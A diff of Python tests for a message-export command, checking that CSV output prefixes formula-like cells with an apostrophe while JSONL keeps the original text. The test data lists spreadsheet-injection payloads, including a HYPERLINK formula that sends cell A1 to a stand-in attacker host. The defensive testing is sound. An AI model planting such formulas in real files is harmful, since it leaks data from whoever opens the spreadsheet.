@@ -168,8 +168,8 @@ def test_messages_export_command_renders_csv_with_the_date_filter(seeded: Servic
     assert result.exit_code == 0, result.output
     records = list(csv.DictReader(io.StringIO(result.stdout)))
     assert [(r["provider_id"], r["sender"], r["needs_review"]) for r in records] == [
-        ("ev-0002", "+51******321", "false"),
-        ("ev-0003", "+51******678", "false"),
+        ("ev-0002", "'+51******321", "false"),  # a leading + would start a formula
+        ("ev-0003", "'+51******678", "false"),
     ]
     assert records[1]["reply"] == ""
     assert unmasked.exit_code == 0, unmasked.output
@@ -223,3 +223,26 @@ def test_review_queue_is_read_through_its_partial_index(seeded: Services) -> Non
         )
 
     assert "ix_inbound_review_queue" in plan
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1"]
+
+
+def test_messages_export_csv_neutralises_formulas_and_jsonl_keeps_the_text(
+    services: Services,
+) -> None:
+    with services.uow() as uow:
+        for number, body in enumerate(FORMULAS):
+            uow.session.add(InboundMessage(
+                provider="twilio", provider_id=f"SM{number}", sender="+51987654321", body=body,
+                received_at=at("2026-03-01T12:00"), interpretation="unreadable",
+            ))  # fmt: skip
+        uow.commit()
+    obj = {"settings": services.settings, "services": services}
+    args = ["export", "messages", "--unmasked"]
+    result = CliRunner().invoke(main, args, obj=obj)
+    jsonl = CliRunner().invoke(main, [*args, "--format", "jsonl"], obj=obj)
+    records = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [r["body"] for r in records] == ["'" + body for body in FORMULAS]
+    assert {r["sender"] for r in records} == {"'+51987654321"}
+    assert [json.loads(line)["body"] for line in jsonl.stdout.splitlines()] == FORMULAS
